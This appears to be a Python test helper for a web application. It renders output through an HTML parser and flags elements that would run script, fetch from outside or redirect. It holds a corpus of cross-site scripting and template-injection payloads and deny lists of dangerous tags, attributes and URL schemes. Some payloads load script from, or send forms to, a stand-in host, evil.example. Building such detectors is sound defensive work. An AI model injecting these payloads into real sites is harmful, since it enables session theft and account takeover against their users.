"""Reads a page as a browser would and names whatever would run, or come from or lead elsewhere."""

from html.parser import HTMLParser

CORPUS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'\"><svg/onload=alert(1)>",
    "<b onmouseover=alert(1)>b</b>",
    "[press](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "</textarea></title></style><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "{{ 7|add:35 }}{% debug %}",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><button>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<div data-hx-get=/issues/1/withdraw/ data-hx-trigger=load hx-on:load=alert(1)>",
    "\u202egnp.exe",
    "<!--",
    "-->",
)
"""Text that tries to run, one way each."""
SHORT = "'\"></title></textarea><script src=//evil.example></script><img src=x onerror=alert(1)>{{ 7|add:35 }}"
"""Most of them at once, for fields of one line."""
NEVER = {"iframe", "object", "embed", "style", "base", "math", "marquee", "applet", "frame"}
FETCHED = ("src", "action", "formaction", "poster", "xlink:href", "data-hx-get", "data-hx-post", "srcset")
RUNS = ("javascript:", "vbscript:", "data:")
ELSEWHERE = ("//", "http:", "https:")
OUR_SCRIPTS = ("/static/", "/admin/jsi18n/")


class Page(HTMLParser):
    """Feed it HTML; ``found`` lists what is wrong, ``text`` is what a person reads."""

    def __init__(self, html):
        super().__init__()
        self.found, self.text = [], ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        """Judge one element."""
        values = {name: value or "" for name, value in attrs}
        ours = values.get("src", "").startswith(OUR_SCRIPTS) or "json" in values.get("type", "")
        runs = tag == "script" and not ours
        listens = any(name.startswith(("on", "hx-on", "data-hx-on")) or name in ("srcdoc", "style") for name in values)
        refreshes = tag == "meta" and "http-equiv" in values
        fetches = any(_begins(values.get(name), RUNS + ELSEWHERE) for name in FETCHED)
        # A link is followed by a person, who sees where it leads; a style sheet or a form is not.
        leads = _begins(values.get("href"), RUNS if tag == "a" else RUNS + ELSEWHERE)
        if tag in NEVER or runs or listens or refreshes or fetches or leads:
            self.found.append((tag, attrs))

    def handle_data(self, data):
        """Keep what is read."""
        self.text += data


def _begins(value, beginnings):
    """Whether an address begins so, as browsers read it: without white space, in any case."""
    return "".join((value or "").split()).lower().startswith(beginnings)
